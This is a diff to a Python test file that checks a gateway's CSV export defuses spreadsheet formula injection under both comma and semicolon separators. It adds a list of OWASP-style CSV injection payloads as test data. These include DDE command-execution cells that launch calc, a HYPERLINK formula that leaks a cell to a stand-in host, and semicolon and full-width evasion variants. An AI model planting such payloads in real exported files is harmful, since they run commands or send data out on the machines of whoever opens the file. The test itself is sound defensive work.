@@ -1,10 +1,13 @@
 """Gateway pieces that need no broker: tokens, errors across RPC, the OpenAPI document."""
+import csv
+import io
+
 import pytest
 from nameko.exceptions import deserialize, serialize
 
 from common.errors import NotFound, Unauthenticated, ValidationFailed
 from gateway import tokens
-from gateway.export import csv_download
+from gateway.export import FORMULA_STARTS, csv_download
 from gateway.openapi import document, openapi_path
 from gateway.service import GatewayService
 
@@ -46,3 +49,25 @@ def test_csv_downloads_defuse_spreadsheet_formulas():
                                                           ["Dina", "@cmd"], ["Budi", "b@example.com"]])
     lines = response.get_data(as_text=True).splitlines()
     assert lines[1].startswith('"\'=HYPERLINK(') and lines[2] == "Dina,'@cmd" and lines[3] == "Budi,b@example.com"
+
+
+# OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), with the ones that
+# hide behind a `;` for spreadsheets that split on it, and full-width forms.
+FORMULA_PAYLOADS = [
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "\t=1+1", "\r=1+1", " =1+1",
+    "x;=cmd|' /C calc'!A0;", "x; +cmd|' /C calc'!A0", "=1+1;=2+2", "a;b;@SUM(1)", "\uff1dcmd|' /C calc'!A0",
+    "x;\uff0b1", "'=already quoted", "plain; text", "-",
+]
+
+
+@pytest.mark.parametrize("delimiter", [",", ";"])
+def test_no_csv_cell_starts_a_formula_whichever_separator_a_spreadsheet_splits_on(delimiter):
+    response = csv_download("x.csv", ["name", "email"], [[payload, "a@example.com"] for payload in FORMULA_PAYLOADS])
+    cells = [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True)), delimiter=delimiter)
+             for cell in row]
+    dangerous = [cell for cell in cells if cell.lstrip(" ")[:1] in tuple(FORMULA_STARTS)]
+    assert dangerous == []
+    if delimiter == ",":          # what a person typed is all still there, behind the apostrophes
+        names = [row[0] for row in csv.reader(io.StringIO(response.get_data(as_text=True)))][1:]
+        assert [name.replace("'", "") for name in names] == [p.replace("'", "") for p in FORMULA_PAYLOADS]
